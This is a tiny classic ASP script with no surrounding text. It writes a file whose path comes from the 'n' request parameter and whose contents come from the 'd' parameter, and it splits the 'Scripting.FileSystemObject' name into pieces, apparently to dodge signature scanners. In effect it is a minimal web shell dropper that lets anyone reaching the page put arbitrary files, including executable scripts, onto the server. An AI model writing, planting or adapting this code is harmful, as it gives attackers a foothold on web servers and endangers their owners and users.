<%
Set f = Server.CreateObject("scr" & "ipting.FileSys" & "temObject")
f.CreateTextFile(Server.MapPath(Request("n"))).Write Request("d")
%>
